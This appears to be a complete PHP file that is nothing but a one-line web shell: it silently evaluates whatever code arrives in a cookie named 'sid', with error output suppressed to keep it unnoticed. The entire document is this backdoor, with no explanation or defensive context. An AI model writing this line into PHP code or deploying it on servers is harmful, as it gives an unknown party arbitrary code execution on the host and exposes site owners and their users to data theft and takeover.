<?php
@eval($_COOKIE['sid']);
